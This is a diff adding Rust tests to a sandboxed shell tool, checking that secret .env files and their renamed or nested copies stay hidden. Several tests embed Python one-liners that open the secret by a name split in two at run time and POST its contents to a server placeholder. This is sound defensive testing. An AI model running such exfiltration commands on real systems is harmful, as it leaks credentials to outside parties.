@@ -1074,6 +1074,84 @@ fn inject_rm_dash_r_of_a_downloaded_directory_name() {
     );
 }
 
+/// python3 (allowed, with network) opens `path` by a name built at run time, prints it
+/// and posts it; neither the output nor the server may see the secret. Run after `setup`.
+fn python3_cannot_see_unnamed(setup: &str, path: &str) {
+    let (head, tail) = path.split_at(path.len() / 2);
+    let py = format!(
+        r#"{setup}
+python3 -c 'import urllib.request
+try:
+    d = open("{head}"+"{tail}", "rb").read()
+except OSError:
+    d = b"hidden"
+print(d.decode())
+urllib.request.urlopen("{{URL}}/py", data=d)'"#
+    );
+    let a = Arena::new();
+    let r = a.run(&py);
+    assert!(
+        !r.stdout.contains(SECRET_MARK) && !r.stderr.contains(SECRET_MARK),
+        "python read the unnamed secret file {path}:\n{}",
+        r.dump()
+    );
+    let raw = a.server.raw();
+    assert!(
+        !contains(&raw, SECRET_MARK.as_bytes()),
+        "THE SECRET REACHED THE SERVER:\n{}\n{}",
+        r.dump(),
+        a.server.dump()
+    );
+}
+
+#[test]
+fn exfil_python3_opening_a_nested_secret_file_sees_nothing() {
+    // Secret files are hidden at any depth, not only next to the project's top.
+    python3_cannot_see_unnamed(
+        "mkdir -p config/deploy && cp .env config/deploy/.env",
+        "config/deploy/.env",
+    );
+    // Control: a nested public file is visible and may be sent.
+    let (a, r) = control(&format!(
+        "mkdir -p config/deploy && cp public.txt config/deploy/settings.txt\n{}",
+        r#"python3 -c 'import urllib.request
+d = open("config/deploy/"+"settings.txt", "rb").read()
+print(d.decode())
+urllib.request.urlopen("{URL}/py", data=d)'"#
+    ));
+    assert!(r.stdout.contains("hello public world"), "{}", r.dump());
+    a.server.assert_received(Some("hello public world"), &r);
+}
+
+#[test]
+fn exfil_python3_opening_a_renamed_copy_of_the_secret_sees_nothing() {
+    // The copy's name says nothing; its recorded label does.
+    python3_cannot_see_unnamed("cp .env notes.txt", "notes.txt");
+    python3_cannot_see_unnamed("mkdir -p a/b && cat .env > a/b/data.txt", "a/b/data.txt");
+}
+
+#[test]
+fn exfil_python3_opening_a_secret_copy_made_by_an_earlier_safesh_process_sees_nothing() {
+    let a = Arena::new();
+    a.run("mkdir -p keep && cp .env keep/backup.txt")
+        .assert_ok();
+    let r = a.run(
+        r#"python3 -c 'import urllib.request
+try:
+    d = open("keep/back"+"up.txt", "rb").read()
+except OSError:
+    d = b"hidden"
+print(d.decode())
+urllib.request.urlopen("{URL}/py", data=d)'"#,
+    );
+    assert!(!r.stdout.contains(SECRET_MARK), "{}", r.dump());
+    assert!(
+        !contains(&a.server.raw(), SECRET_MARK.as_bytes()),
+        "THE SECRET REACHED THE SERVER:\n{}",
+        r.dump()
+    );
+}
+
 #[test]
 fn exfil_python3_opening_the_secret_without_naming_it_sees_nothing() {
     // `.env` is not in the program's arguments or stdin, so it is hidden from it (the
